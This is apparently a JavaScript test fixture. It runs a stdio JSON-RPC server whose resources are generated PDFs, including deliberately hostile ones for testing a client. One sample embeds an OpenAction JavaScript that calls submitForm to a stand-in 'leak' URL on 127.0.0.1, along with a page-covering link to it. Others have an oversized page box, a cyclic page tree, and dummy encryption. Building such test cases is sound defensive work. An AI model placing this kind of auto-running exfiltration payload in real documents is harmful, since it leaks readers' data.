// A legacy server on stdio whose resources are PDFs, good and hostile ones. pdfs.mjs [FONT]: a TrueType file to embed.
import { readFileSync } from 'node:fs';
import { RpcError, serveStdio } from './kit.mjs';

const [, , fontFile] = process.argv;

/** A file of these objects, numbered from 1, with its table of places. */
function pdf(objects, trailer = '') {
  let text = '%PDF-1.7\n';
  const places = objects.map((body, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`;
  return `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}${end}`;
}

const stream = (body, more = '') => `<< /Length ${body.length} ${more} >>\nstream\n${body}\nendstream`;
const drawing = 'BT /F1 48 Tf 72 700 Td (Weekly report) Tj ET\n0.1 0.4 0.5 rg 72 560 300 90 re f';
const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

function pages({ root = '', page = '', box = '0 0 612 792', font = HELVETICA, more = [], trailer = '' } = {}) {
  const one = `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${page} >>`;
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${root} >>`,
    '<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>',
    one,
    stream(drawing),
    font,
    ...more,
  ];
  return pdf(all, trailer);
}

function withFont() {
  const data = readFileSync(fontFile, 'latin1');
  const font =
    '<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+Own /FirstChar 32 /LastChar 33 /Widths [500 500] /FontDescriptor 6 0 R >>';
  const descriptor =
    '<< /Type /FontDescriptor /FontName /AAAAAA+Own /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 7 0 R >>';
  return pages({ font, more: [descriptor, stream(data, `/Length1 ${data.length}`)] });
}

const KEY = '00'.repeat(32);
const FILES = {
  plain: pages(),
  script: pages({
    root: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://127.0.0.1:9/leak"\\)) >>',
    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://127.0.0.1:9/leak) >> >>]',
  }),
  vast: pages({ box: '0 0 9000000 9000000' }),
  locked: pages({
    more: [`<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${KEY}> /U <${KEY}> >>`],
    trailer: '/Encrypt 6 0 R /ID [<00> <00>]',
  }),
  round: pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  broken: `%PDF-1.7\n${'garbage '.repeat(200)}`,
  ...(fontFile === undefined ? {} : { font: withFont() }),
};

const resources = Object.keys(FILES).map((name) => ({ uri: `pdf://${name}`, name, mimeType: 'application/pdf' }));

function answer({ method, params }) {
  if (method === 'initialize') {
    const serverInfo = { name: 'pdfs', version: '1.0.0' };
    return { protocolVersion: '2025-11-25', capabilities: { resources: {} }, serverInfo };
  }
  if (method === 'resources/list') return { resources };
  if (method === 'resources/templates/list') return { resourceTemplates: [] };
  const file = method === 'resources/read' ? FILES[params.uri.slice('pdf://'.length)] : undefined;
  if (file === undefined) throw new RpcError(-32601, `no method ${method}`);
  const blob = Buffer.from(file, 'latin1').toString('base64');
  return { contents: [{ uri: params.uri, mimeType: 'application/pdf', blob }] };
}

serveStdio((message, reply) => {
  if (message.id === undefined || message.method === undefined) return;
  try {
    reply({ jsonrpc: '2.0', id: message.id, result: answer(message) });
  } catch (error) {
    reply({ jsonrpc: '2.0', id: message.id, error: { code: error.code ?? -32603, message: error.message } });
  }
});
